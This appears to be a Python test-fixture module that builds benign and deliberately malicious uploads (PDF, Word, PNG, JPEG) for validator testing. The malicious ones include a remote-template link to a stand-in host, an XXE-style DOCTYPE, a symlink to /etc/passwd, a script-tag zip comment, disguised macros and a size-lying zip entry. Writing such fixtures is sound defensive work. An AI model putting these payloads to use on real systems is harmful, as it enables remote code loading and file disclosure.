"""Files as people hand them in: whole ones, and ones made to do harm."""

import struct
import zlib
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

import docx
import pikepdf
from PIL import Image
from PIL.PngImagePlugin import PngInfo

PLACE = "Vandværket ved Ågade"  # what a camera wrote beside the pixels


def pdf(**more):
    """Return a PDF of one page."""
    file = BytesIO()
    with pikepdf.new() as book:
        book.add_blank_page()
        book.save(file, **more)
    return file.getvalue()


def word():
    """Return a Word file."""
    file = BytesIO()
    made = docx.Document()
    made.add_paragraph("Strømsvigt")
    made.save(file)
    return file.getvalue()


def repacked(*, add=(), change=None, without=None):
    """Return a Word file with parts added, changed or left out."""
    file = BytesIO()
    with ZipFile(BytesIO(word())) as old, ZipFile(file, "w", ZIP_DEFLATED) as new:
        for part in old.infolist():
            if part.filename == without:
                continue
            text = old.read(part)
            new.writestr(part.filename, change(part.filename, text) if change else text)
        for name, text in add:
            new.writestr(name, text)
    return file.getvalue()


def chunk(kind, body):
    """Return one piece of a PNG."""
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width=2, height=1):
    """Return a PNG that says it is that large."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0\0\0")) + chunk(b"IEND", b"")
    )


def hollow():
    """Return a PNG that is whole from outside and has no pixels inside."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 50, 50, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", b"intet") + chunk(b"IEND", b"")


def jpeg(width=2, height=1):
    """Return a JPEG that says it is that large."""
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8\xff\xe0" + struct.pack(">H", 4) + b"JF" + frame + b"\xff\xd9"


def photo(sort="JPEG", size=(40, 20), **more):
    """Return a picture as a camera gives it: turned on its side, with its place written in it."""
    picture = Image.new("RGB", size, "white")
    picture.paste("black", (0, 0, size[0] // 2, size[1] // 2))
    exif = Image.Exif()
    exif[0x0112] = 6  # orientation: to be turned a quarter clockwise
    exif[0x010E] = PLACE
    exif.get_ifd(0x8825).update({1: "N", 2: (55.0, 39.0, 26.0), 3: "E", 4: (12.0, 21.0, 3.0)})
    if sort == "PNG":
        beside = PngInfo()
        beside.add_text("Comment", PLACE)
        more["pnginfo"] = beside
    else:
        more["comment"] = PLACE
    file = BytesIO()
    picture.save(file, sort, exif=exif, **more)
    return file.getvalue()


def locked(user=""):
    """Return a PDF that is encrypted; an empty ``user`` opens it, but not to change."""
    return pdf(encryption=pikepdf.Encryption(owner="a", user=user))


def with_doctype():
    """Return a Word file whose text could name entities."""
    return repacked(change=lambda name, text: b"<!DOCTYPE x>" if "document" in name else text)


def with_remote_template():
    """Return a Word file that fetches its template from somewhere."""
    kinds = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    link = (
        b'<Relationships><Relationship Id="a" Type="%s/attachedTemplate" '
        b'Target="https://ond.example/x.dotm" TargetMode="External"/></Relationships>' % kinds
    )
    return repacked(add=[("word/_rels/settings.xml.rels", link)])


def with_endless_relations():
    """Return a Word file whose relations are a million beginnings and no end."""
    return repacked(add=[("word/_rels/x.xml.rels", b"<Relationship " * 60_000)])


def with_hidden_remote_template():
    """Return a Word file that fetches its template, behind a sign that ends no tag."""
    kinds = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    link = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id=">" Type="%s/attachedTemplate" Target="https://ond.example/x.dotm" '
        b'TargetMode="External"/></Relationships>' % kinds
    )
    return repacked(add=[("word/_rels/settings.xml.rels", link)])


def with_links(*links, prefix=""):
    """Return a Word file that leans on (kind, target, mode)."""
    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    rows = "".join(
        f'<{prefix}Relationship Id="r{n}" Type="{kinds}/{kind}" Target="{target}" '
        f'TargetMode="{mode}"/>'
        for n, (kind, target, mode) in enumerate(links)
    )
    name = f'xmlns{":" + prefix[:-1] if prefix else ""}="urn:x"'
    text = f"<{prefix}Relationships {name}>{rows}</{prefix}Relationships>"
    return repacked(add=[("word/_rels/settings.xml.rels", text.encode())])


def in_two_alphabets():
    """Return a Word file whose text is spelt so that a search for bytes does not find the words."""
    return repacked(
        change=lambda name, text: (
            '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE x><x/>'.encode("utf-16")
            if name == "word/document.xml"
            else text
        )
    )


def before(other):
    """Return a Word file with another file's bytes laid before it, begun as an archive."""
    return b"PK\x03\x04" + other + word()


def with_comment():
    """Return a Word file with something written after its end."""
    file = BytesIO(word())
    with ZipFile(file, "a") as archive:
        archive.comment = b"<script>alert(1)</script>"
    return file.getvalue()


def as_macros():
    """Return a Word file with macros that was only given another name."""
    return repacked(
        change=lambda name, text: (
            text.replace(b"document.main+xml", b"document.macroEnabled.main+xml")
            if name == "[Content_Types].xml"
            else text
        )
    )


def lying():
    """Return a Word file with a part that is more than it declares."""
    file = bytearray(repacked(add=[("word/x.bin", b"\0" * 100_000)]))
    at = file.rindex(b"word/x.bin") - 46  # its entry in the central directory
    struct.pack_into("<I", file, at + 24, 10)
    return bytes(file)


def with_link():
    """Return a Word file with a part that is a link out of it."""
    file = BytesIO(word())
    with ZipFile(file, "a") as archive:
        link = ZipInfo("word/link")
        link.external_attr = 0xA1ED << 16
        archive.writestr(link, "/etc/passwd")
    return file.getvalue()
